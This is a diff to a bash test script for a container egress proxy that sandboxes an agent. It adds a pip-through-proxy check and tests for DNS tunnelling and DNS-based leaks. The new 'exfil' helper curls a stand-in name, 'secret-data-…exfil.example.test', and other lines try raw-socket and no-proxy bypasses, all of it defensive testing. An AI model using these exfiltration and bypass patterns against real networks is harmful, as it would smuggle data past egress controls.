@@ -55,17 +55,60 @@ serve() {
 }
 serve allowed allowed.test cidr.test api.wild.test mixed.test
 serve denied denied.test wild.test mixed.test
+# A package index, pypi.test: one wheel made on the spot (a zip with its metadata), served as a
+# PEP 503 simple index, for `pip install` through the proxy.
+cat >"$work/make_index.py" <<'PY'
+import base64, hashlib, os, zipfile
+root = "/tmp/srv/simple/egress-demo"
+os.makedirs(root)
+name = "egress_demo-1.0-py3-none-any.whl"
+info = "egress_demo-1.0.dist-info"
+files = {
+    "egress_demo/__init__.py": b'VALUE = "installed through the egress proxy"\n',
+    info + "/METADATA": b"Metadata-Version: 2.1\nName: egress-demo\nVersion: 1.0\n",
+    info + "/WHEEL": b"Wheel-Version: 1.0\nGenerator: execmcp-test\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
+}
+record = []
+for path, data in files.items():
+    digest = base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()
+    record.append(f"{path},sha256={digest},{len(data)}")
+record.append(info + "/RECORD,,")
+with zipfile.ZipFile(f"{root}/{name}", "w") as wheel:
+    for path, data in files.items():
+        wheel.writestr(path, data)
+    wheel.writestr(info + "/RECORD", "\n".join(record) + "\n")
+with open(f"{root}/index.html", "w") as f:
+    f.write(f'<a href="{name}">{name}</a>\n')
+with open("/tmp/srv/simple/index.html", "w") as f:
+    f.write('<a href="egress-demo/">egress-demo</a>\n')
+PY
+docker run -d --name "$p-pypi" --label "$p" --network "$p-up" --network-alias pypi.test --read-only \
+  --tmpfs /tmp --cap-drop ALL --security-opt no-new-privileges -e "MAKE_INDEX=$(cat "$work/make_index.py")" \
+  "$runtime" sh -c 'python3 -c "$MAKE_INDEX" && exec python3 -m http.server 80 --directory /tmp/srv' >/dev/null
 ip_on() { docker inspect -f "{{(index .NetworkSettings.Networks \"$2\").IPAddress}}" "$1"; }
 allowed_ip="$(ip_on "$p-allowed" "$p-up")"
 denied_ip="$(ip_on "$p-denied" "$p-up")"
 allowed_host="$(docker inspect -f '{{.Config.Hostname}}' "$p-allowed")"
 
+# A DNS server that answers nothing and counts the queries it gets: the proxies forward the names
+# Docker's resolver does not know to it (--dns), and the DNS tunnelling check below asks it too.
+dns_queries() { docker logs "$p-dns" 2>&1 | grep -c query || true; }
+docker run -d --name "$p-dns" --label "$p" --network "$p-up" "$runtime" python3 -u -c '
+import socket
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+s.bind(("0.0.0.0", 53))
+while True:
+    s.recvfrom(2048)
+    print("query", flush=True)' >/dev/null
+dns_ip="$(ip_on "$p-dns" "$p-up")"
+sleep 0.5
+
 # --- the proxy: the policy rendered by egress_policy.cpp, served to the internal network only ---
-policy="{\"allow\": [\"allowed.test\", \"*.wild.test\", \"$allowed_ip/32\"]}"
+policy="{\"allow\": [\"allowed.test\", \"pypi.test\", \"*.wild.test\", \"$allowed_ip/32\"]}"
 "$render" "$policy" "agent-$$" "$work/squid.conf" "$work/page" "$int_subnet" ||
   die "rendering the policy failed"
 proxy="$p-proxy"
-docker create --name "$proxy" --label "$p" --network "$p-int" --read-only --tmpfs /tmp:size=8m \
+docker create --name "$proxy" --label "$p" --network "$p-int" --dns "$dns_ip" --read-only --tmpfs /tmp:size=8m \
   --cap-drop ALL --security-opt no-new-privileges --memory 128m --pids-limit 64 \
   -e "EXECMCP_EGRESS_CONF=$(cat "$work/squid.conf")" -e "EXECMCP_EGRESS_ERROR_PAGE=$(cat "$work/page")" \
   "$image" >/dev/null
@@ -115,6 +158,14 @@ echo "noproxy \$(curl -sS --noproxy '*' --max-time 5 -o /dev/null -w 'code=%{htt
 echo "raw_ip \$(curl -sS --connect-timeout 3 -o /dev/null -w 'code=%{http_code}' http://$allowed_ip/hostname 2>&1 | tr '\n' ' ')"
 echo "raw_socket \$(timeout 5 python3 -c 'import socket; socket.create_connection(("$allowed_ip", 80), 3); print("connected")' 2>&1 | tail -n 1)"
 echo "dns \$(timeout 8 getent hosts allowed.test || echo none)"
+export HTTP_PROXY=\$px HTTPS_PROXY=\$px PIP_DISABLE_PIP_VERSION_CHECK=1 PIP_NO_CACHE_DIR=1
+pip_out="\$(python3 -m pip install --target /tmp/site --index-url http://pypi.test/simple/ \\
+  --trusted-host pypi.test egress-demo 2>&1)"
+echo "pip_install \$(PYTHONPATH=/tmp/site python3 -c 'import egress_demo; print(egress_demo.VALUE)' 2>&1 || echo "\$pip_out" | tail -n 3 | tr '\n' ' ')"
+# pip says only "No matching distribution" unless very verbose, where the 403 shows.
+python3 -m pip install -vvv --target /tmp/site2 --index-url http://denied.test/simple/ \\
+  --trusted-host denied.test --retries 0 egress-demo >/tmp/pip_denied 2>&1
+echo "pip_denied \$(grep -m 1 -o '40[0-9] Client Error[^ ]* [^ ]*' /tmp/pip_denied || tail -n 2 /tmp/pip_denied | tr '\n' ' ')"
 EOF
 out="$(client "$(cat "$work/client.sh")" 2>&1 || true)"
 value() { sed -n "s/^$1 //p" <<<"$out" | head -n 1; }
@@ -155,25 +206,20 @@ check urllib 200 "Python's urllib uses HTTP_PROXY unasked: 200"
 [[ "$(value raw_socket)" != connected ]] && pass "a raw socket to the server's IP fails: $(value raw_socket)" ||
   fail "a raw socket to the server reached it"
 check dns none "the client cannot resolve allowed.test (no DNS of its own)"
+check pip_install "installed through the egress proxy" "pip installs a package from pypi.test through the proxy"
+[[ "$(value pip_denied)" == "403 Client Error: Forbidden"* ]] && pass "pip from denied.test is refused: $(value pip_denied)" ||
+  fail "pip from denied.test: '$(value pip_denied)'"
+refusals=$((refusals + 1))
 
 # DNS tunnelling: the internal network's resolver must not forward a query to any server, not
 # even one the client names and the upstream network can reach (a listener that counts queries).
-docker run -d --name "$p-dns" --label "$p" --network "$p-up" "$runtime" python3 -u -c '
-import socket
-s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
-s.bind(("0.0.0.0", 53))
-while True:
-    s.recvfrom(2048)
-    print("query", flush=True)' >/dev/null
-dns_ip="$(ip_on "$p-dns" "$p-up")"
-sleep 0.5
 docker run --rm --label "$p" --network "$p-int" --dns "$dns_ip" "$runtime" \
   sh -c 'timeout 6 getent hosts tunnel.example.test' >/dev/null 2>&1 || true
-tunnelled="$(docker logs "$p-dns" 2>&1 | grep -c query || true)"
+tunnelled="$(dns_queries)"
 # The control: the same query from the upstream network reaches the listener.
 docker run --rm --label "$p" --network "$p-up" --dns "$dns_ip" "$runtime" \
   sh -c 'timeout 3 getent hosts control.example.test' >/dev/null 2>&1 || true
-control="$(($(docker logs "$p-dns" 2>&1 | grep -c query || true) - tunnelled))"
+control="$(($(dns_queries) - tunnelled))"
 [ "$tunnelled" = 0 ] && [ "$control" -ge 1 ] &&
   pass "DNS: the internal client's query reached no server (the control's reached it $control times)" ||
   fail "DNS: the internal client's queries reached the listener $tunnelled times (control: $control)"
@@ -184,6 +230,37 @@ code="$(docker run --rm --label "$p" --network "$p-up" "$runtime" curl -s -o /de
 [ "$code" = 403 ] && pass "a client outside the agent's network is refused: 403" ||
   fail "a client outside the agent's network got $code"
 refusals=$((refusals + 1))
+
+# --- a refused name is not looked up: no data leaves through the proxy's resolver ---
+# A second proxy whose list holds names only; both forward unknown names to the counting server.
+"$render" '{"allow": ["allowed.test"]}' "names-$$" "$work/names.conf" "$work/names.page" ||
+  die "rendering the names-only policy failed"
+docker run -d --name "$p-names" --label "$p" --network "$p-int" --dns "$dns_ip" --read-only \
+  --tmpfs /tmp:size=8m --cap-drop ALL --security-opt no-new-privileges \
+  -e "EXECMCP_EGRESS_CONF=$(cat "$work/names.conf")" -e "EXECMCP_EGRESS_ERROR_PAGE=$(cat "$work/names.page")" \
+  "$image" >/dev/null
+docker network connect "$p-up" "$p-names"
+exfil() { # exfil PROXY NAME: prints the status and the time in ms
+  client "curl -s -o /dev/null --max-time 5 -w '%{http_code} %{time_total}' -x http://$1:3128 http://$2/ | awk '{printf \"%s %d\", \$1, \$2 * 1000}'"
+}
+for _ in $(seq 50); do
+  [ "$(client "curl -s -o /dev/null -w '%{http_code}' -x http://$p-names:3128 http://allowed.test/hostname" || true)" = 200 ] && break
+  sleep 0.1
+done
+before="$(dns_queries)"
+read -r code ms <<<"$(exfil "$p-names" "secret-data-$$.exfil.example.test")"
+after="$(dns_queries)"
+[ "$code" = 403 ] && [ "$after" = "$before" ] &&
+  pass "names-only list: a refused name gets 403 in $ms ms and is never looked up" ||
+  fail "names-only list: a refused name got $code in $ms ms, $((after - before)) lookups reached the resolver"
+before="$(dns_queries)"
+read -r code ms <<<"$(exfil "$proxy" "secret-data-$$.exfil.example.test")"
+sleep 0.5
+after="$(dns_queries)"
+# Documented: with an address entry every name is looked up, to compare its addresses.
+[ "$after" -gt "$before" ] &&
+  pass "a list with an address entry looks a refused name up (documented): $((after - before)) queries, HTTP $code after $ms ms" ||
+  fail "a list with an address entry did not look the name up (update docker-backend.md)"
 
 # --- the proxy process: unprivileged, without capabilities ---
 status="$(docker exec "$proxy" cat /proc/1/status)"
